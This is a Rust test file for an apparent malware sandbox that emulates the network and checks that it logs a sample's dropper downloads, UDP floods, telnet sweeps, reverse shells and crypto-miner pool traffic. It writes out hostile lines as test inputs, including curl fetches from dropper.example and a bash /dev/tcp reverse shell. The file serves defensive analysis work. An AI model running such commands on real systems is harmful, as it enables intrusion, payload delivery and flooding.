//! The whole of it, with real clients.

#![expect(
    clippy::disallowed_methods,
    reason = "the sample's side: real clients in a namespace that leads nowhere else"
)]

use std::{
    net::{TcpStream, UdpSocket},
    thread,
    time::{Duration, Instant},
};

use model::What;

use super::testing::{ask, connect, run, shell};

#[test]
fn curl_fetches_a_script_and_a_program_and_takes_our_certificate() {
    let (events, counts) = run(|guest| {
        let ca = guest.authority.display();
        let script = shell(&format!("curl -sS --max-time 20 --cacert {ca} https://dropper.example/x/install.sh"));
        assert!(script.starts_with("#!/bin/sh"), "{script}");
        let size = shell(
            "curl -sS --max-time 20 -A '' -o /dev/null -w '%{size_download}' http://dropper.example:8080/bins/agent.x86",
        );
        assert_eq!(size, "153");
        let refused = shell("curl -sS --max-time 20 --cacert /dev/null https://dropper.example/ 2>/dev/null; echo $?");
        assert_ne!(refused, "0\n");
    });
    let urls: Vec<(&str, &str, bool)> = events
        .iter()
        .filter_map(|event| match event {
            What::Http { url, content, answer, .. } => Some((url.as_str(), content.as_str(), answer.is_some())),
            _ => None,
        })
        .collect();
    let expected = [
        ("https://dropper.example/x/install.sh", "script", true),
        ("http://dropper.example:8080/bins/agent.x86", "elf", true),
    ];
    assert_eq!(urls, expected, "{events:#?}");
    let handshakes: Vec<(&str, bool, usize)> = events
        .iter()
        .filter_map(|event| match event {
            What::Tls { server, ja3, accepted, .. } => Some((server.as_str(), *accepted, ja3.len())),
            _ => None,
        })
        .collect();
    assert_eq!(handshakes, [("dropper.example", true, 32), ("dropper.example", false, 32)]);
    assert!(events.iter().any(
        |event| matches!(event, What::Dns { name, answer, .. } if name == "dropper.example" && answer.len() == 1)
    ));
    let named = |event: &What| matches!(event, What::FlowStart { name: Some(name), accepted: true, .. } if name == "dropper.example");
    assert_eq!(events.iter().filter(|event| named(event)).count(), 3);
    assert!(counts.downloads.len() >= 2 && counts.packets_out > 20, "{counts:?}");
}

#[test]
fn a_connection_is_answered_within_milliseconds() {
    run(|_| {
        let mut taken: Vec<Duration> = (0..40)
            .map(|_| {
                let start = Instant::now();
                let mut stream = connect("203.0.113.9:80");
                ask(&mut stream, "GET / HTTP/1.1\r\nHost: x.example\r\n\r\n", "</html>");
                start.elapsed()
            })
            .collect();
        taken.sort();
        println!("connect and reply: median {:?}, worst {:?}", taken[20], taken[39]);
        assert!(taken[20] < Duration::from_millis(20), "{taken:?}");
    });
}

#[test]
fn a_flood_is_folded_into_one_event_and_memory_stays() {
    let (events, counts) = run(|_| {
        let socket = UdpSocket::bind("0.0.0.0:0").expect("binds");
        for _ in 0..200_000 {
            // A full queue may say so: the kernel counts it.
            let _sent = socket.send_to(&[0x41; 512], "198.51.100.77:27015");
        }
    });
    let floods: Vec<&What> = events.iter().filter(|event| matches!(event, What::Flood { .. })).collect();
    let [What::Flood { shape, target, packets, bytes, .. }] = floods[..] else { panic!("{floods:?}") };
    assert_eq!((shape.as_str(), target.as_str()), ("udp", "198.51.100.77:27015"));
    assert_eq!(*bytes, packets * 540);
    assert!(events.len() < 20, "{}", events.len());
    assert_eq!(counts.packets_out + counts.packets_lost, 200_000, "{counts:?}");
    println!("200,000 sent: {} read, {} lost at the queue", counts.packets_out, counts.packets_lost);
}

#[test]
fn a_scan_is_one_sweep_and_finds_little() {
    let (events, _) = run(|_| {
        let threads: Vec<_> = (0..16_u8)
            .map(|part| {
                thread::spawn(move || {
                    (0..32_u8)
                        .filter(|host| {
                            let target = format!("10.9.{part}.{host}:23").parse().expect("an address");
                            TcpStream::connect_timeout(&target, Duration::from_millis(150)).is_ok()
                        })
                        .count()
                })
            })
            .collect();
        let open: usize = threads.into_iter().map(|thread| thread.join().expect("scans")).sum();
        assert!((8..100).contains(&open), "{open} of 512 open");
    });
    let sweeps: Vec<&What> = events.iter().filter(|event| matches!(event, What::Sweep { .. })).collect();
    let [What::Sweep { ports, targets, .. }] = sweeps[..] else { panic!("{sweeps:?}") };
    assert_eq!(ports[..], [23]);
    assert!(targets.abs_diff(512) < 20, "{targets}");
}

#[test]
fn a_reverse_shell_shows_itself() {
    let (events, _) = run(|_| {
        shell(
            "exec 3<>/dev/null; command -v bash >/dev/null && timeout 5 bash -c 'bash >& /dev/tcp/203.0.113.5/4443 0>&1'; true",
        );
    });
    let answers: Vec<&str> = events
        .iter()
        .filter_map(|event| match event {
            What::Message { service, text, .. } if service == "shell" => Some(text.as_str()),
            _ => None,
        })
        .collect();
    assert!(answers.first().is_some_and(|answer| answer.starts_with("uid=0")), "{events:#?}");
}

#[test]
fn a_miner_is_dealt_jobs_and_its_shares_are_taken() {
    let (events, _) = run(|_| {
        let mut pool = connect("203.0.113.8:20128");
        let login = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4WALLET","pass":"rig7","agent":"XMRig/6.16.0","algo":["rx/0"]}}"#;
        let job = ask(&mut pool, &format!("{login}\n"), "\n");
        assert!(job.contains(r#""status":"OK""#) && job.contains(r#""target":"ffffff7f""#), "{job}");
        let reply = ask(
            &mut pool,
            "{\"id\":2,\"jsonrpc\":\"2.0\",\"method\":\"submit\",\"params\":{\"id\":\"x\",\"job_id\":\"1\",\"nonce\":\"00000000\",\"result\":\"00\"}}\n",
            "\n",
        );
        assert!(reply.contains(r#""result":{"status":"OK"}"#), "{reply}");
        let mut pool = connect("203.0.113.8:443");
        ask(&mut pool, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5\"]}\n", "mining.notify");
        ask(
            &mut pool,
            "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"1Wallet.rig\",\"x\"]}\n",
            "mining.set_difficulty",
        );
    });
    let shares = |dialect: &str| {
        events
            .iter()
            .filter(|event| matches!(event, What::Stratum { dialect: known, share: true, .. } if known == dialect))
            .count()
    };
    assert_eq!((shares("login"), shares("mining")), (1, 0));
    let subscribed = |event: &What| matches!(event, What::Stratum { method, login, worker, agent, .. } if method == "mining.authorize" && login == "1Wallet" && worker == "rig" && agent == "cpuminer/2.5");
    assert!(events.iter().any(subscribed), "{events:#?}");
}
